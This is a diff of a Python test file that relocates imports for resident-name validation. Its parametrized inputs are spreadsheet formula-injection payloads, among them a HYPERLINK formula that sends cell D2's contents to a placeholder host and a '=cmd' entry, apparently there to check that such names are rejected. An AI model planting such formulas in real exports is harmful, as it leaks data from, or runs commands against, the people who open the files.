@@ -4,9 +4,9 @@ from __future__ import annotations
 
 import pytest
 
-from models.errors import ValidationFailed
-from models.names import InvalidNameError, normalise_name
-from models.residents import ResidentInput, create_resident
+from models.core.errors import ValidationFailed
+from models.residents.names import InvalidNameError, normalise_name
+from models.residents.registry import ResidentInput, create_resident
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x?"&D2,"详情")', "+张三", "-李四", "@王五", "\t=cmd", " =1+1"])
